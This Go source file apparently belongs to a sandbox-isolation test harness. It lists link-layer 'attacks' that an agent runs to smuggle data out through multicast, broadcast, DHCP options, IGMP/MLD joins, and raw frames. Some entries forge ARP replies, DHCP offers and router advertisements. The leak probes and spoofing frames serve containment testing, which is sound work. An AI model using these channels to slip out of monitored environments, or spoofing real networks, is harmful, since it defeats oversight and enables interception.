package attack

import (
	"net"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func itoa(n uint16) string { return strconv.Itoa(int(n)) }

// reportDelay is how long a kernel takes at most to report a group that was
// joined (RFC 3376 section 8.11, RFC 3810 section 9.11: one second).
const reportDelay = 1100 * time.Millisecond

// linkAttacks speak to whoever is on the link.
func linkAttacks() []Attack {
	const family = "the link"
	one := func(id, tries string, leak func(Event) bool, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Leak: leak, Do: do}
	}
	raw := func(id, tries string, leak func(Event) bool, do func(*Agent) error) Attack {
		a := one(id, tries, leak, do)
		a.Needs = "NET_RAW"
		return a
	}
	multicast := func(to string) func(Event) bool {
		a := net.ParseIP(to)
		return func(e Event) bool { return e.Kind == PacketEvent && net.IP(e.Dst.AsSlice()).Equal(a) }
	}
	return []Attack{
		one("multicast4", "datagrams to an IPv4 group", multicast("239.1.2.3"),
			func(a *Agent) error { return a.udp("239.1.2.3:" + itoa(a.port)) }),
		one("multicast6", "datagrams to all machines of the link", multicast("ff02::1"),
			func(a *Agent) error { return a.udp("[ff02::1%eth0]:" + itoa(a.port)) }),
		one("multicast6-wide", "datagrams to a group of the organisation", multicast("ff08::5bd"),
			func(a *Agent) error { return a.udp("[ff08::5bd%eth0]:" + itoa(a.port)) }),
		one("ssdp", "a search for devices (SSDP)", multicast("239.255.255.250"), func(a *Agent) error { return a.udp("239.255.255.250:1900") }),
		one("broadcast", "datagrams to everybody on the link", multicast("255.255.255.255"), func(a *Agent) error {
			return a.socket("255.255.255.255:"+itoa(a.port), unix.SOCK_DGRAM, 0, broadcast)
		}),
		one("subnet-broadcast", "datagrams to everybody on the network", multicast("192.0.2.255"), func(a *Agent) error {
			return a.socket("192.0.2.255:"+itoa(a.port), unix.SOCK_DGRAM, 0, broadcast)
		}),
		one("dhcp", "a DHCP request with data in its options", func(e Event) bool { return e.Kind == PacketEvent && e.DstPort == 67 },
			func(a *Agent) error {
				return a.socket("255.255.255.255:67", unix.SOCK_DGRAM, 0, func(fd int) error {
					return all(broadcast(fd), unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1), unix.Bind(fd, &unix.SockaddrInet4{Port: 68}))
				})
			}),
		one("igmp-join", "data in the groups that one joins (IGMP)",
			func(e Event) bool { return e.Proto == unix.IPPROTO_IGMP }, func(*Agent) error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				link, err := net.InterfaceByName("eth0")
				if err != nil {
					return err
				}
				var failed []error
				for i := range byte(4) {
					failed = append(failed,
						unix.SetsockoptIPMreqn(fd, unix.IPPROTO_IP, unix.IP_ADD_MEMBERSHIP,
							&unix.IPMreqn{Multiaddr: [4]byte{239, 77, 1, i}, Ifindex: int32(link.Index)}))
				}
				time.Sleep(reportDelay)
				return all(failed...)
			}),
		one("mld-join", "data in the IPv6 groups that one joins (MLD)", func(e Event) bool {
			return e.Proto == unix.IPPROTO_ICMPV6 && (e.Type == 131 || e.Type == 132 || e.Type == 143) && !e.Src.IsUnspecified()
		}, func(*Agent) error {
			fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			link, err := net.InterfaceByName("eth0")
			if err != nil {
				return err
			}
			err = unix.SetsockoptIPv6Mreq(fd, unix.IPPROTO_IPV6, unix.IPV6_JOIN_GROUP, &unix.IPv6Mreq{
				Multiaddr: [16]byte{0xff, 0x05, 13: 7, 14: 7, 15: 7}, Interface: uint32(link.Index)})
			time.Sleep(reportDelay)
			return err
		}),
		one("neighbour-solicitation", "data in the addresses whose owner one asks for", func(e Event) bool {
			return e.Kind == PacketEvent && e.Proto == unix.IPPROTO_ICMPV6 && e.Type == 135 && len(e.Raw) >= 64 &&
				e.Raw[63] == 0x5e && e.Raw[62] == 0x5e
		}, func(a *Agent) error { return a.udp("[2001:db8::5e5e]:443") }),
		raw("arp-spoof", "an ARP reply that says one is the gateway",
			func(e Event) bool { return e.EtherType == unix.ETH_P_ARP && !honestFrame(e) }, func(*Agent) error {
				arp := []byte{0, 1, 8, 0, 6, 4, 0, 2, 2, 0, 0, 0, 0, 9, 192, 0, 2, 1, 2, 0, 0, 0, 0, 8, 192, 0, 2, 77}
				return frame(unix.ETH_P_ARP, arp)
			}),
		raw("dhcp-raw", "a DHCP server's offer with another gateway", func(e Event) bool { return e.DstPort == 68 }, func(a *Agent) error {
			return frame(unix.ETH_P_IP, ipv4(unix.IPPROTO_UDP, gatewayAddr, "255.255.255.255", udpHeader(67, 68, []byte(a.word)), nil))
		}),
		raw("router-advertisement", "an advertisement that says one is the router",
			func(e Event) bool { return e.Proto == unix.IPPROTO_ICMPV6 && e.Type == 134 }, func(a *Agent) error {
				return a.socketIn(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6, &unix.SockaddrInet6{Addr: [16]byte{0xff, 2, 15: 1}, ZoneId: 2},
					append([]byte{134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0}, a.word...), hops255)
			}),
		raw("fake-solicitation", "a solicitation of one's own with data in it", func(e Event) bool {
			return e.Proto == unix.IPPROTO_ICMPV6 && e.Type == 135 && containsWord(e, "leak-fake-solicitation")
		}, func(a *Agent) error {
			return a.socketIn(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6, &unix.SockaddrInet6{Addr: [16]byte{0x20, 1, 0xd, 0xb8, 15: 1}},
				append([]byte{135, 0, 0, 0, 0, 0, 0, 0}, a.word...), hops255)
		}),
		raw("ether-frame", "an Ethernet frame of no known type", func(e Event) bool { return e.EtherType == 0x88b6 },
			func(a *Agent) error { return frame(0x88b6, []byte(a.word)) }),
		one("inbound-tcp", "a server of the agent's that the outside connects to", nil, func(a *Agent) error {
			l, err := net.Listen("tcp", ":"+itoa(a.port))
			if err != nil {
				return err
			}
			defer l.Close()
			_ = l.(*net.TCPListener).SetDeadline(time.Now().Add(2 * patience))
			conn, err := l.Accept()
			if err == nil {
				hangUp(conn)
			}
			return err
		}).inbound(),
		one("inbound-udp", "a server of the agent's that the outside sends datagrams to, from port 53", nil, func(a *Agent) error {
			pc, err := net.ListenPacket("udp", ":"+itoa(a.port))
			if err != nil {
				return err
			}
			defer pc.Close()
			_ = pc.SetDeadline(time.Now().Add(2 * patience))
			_, from, err := pc.ReadFrom(make([]byte, 100))
			if err == nil {
				_, err = pc.WriteTo([]byte(a.word), from)
			}
			return err
		}).inbound(),
	}
}

func (a Attack) needs(capability string) Attack {
	a.Needs = capability
	return a
}

func (a Attack) inbound() Attack {
	a.Inbound = true
	return a
}

func broadcast(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1) }

func hops255(fd int) error {
	return all(unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, 255),
		unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_UNICAST_HOPS, 255))
}
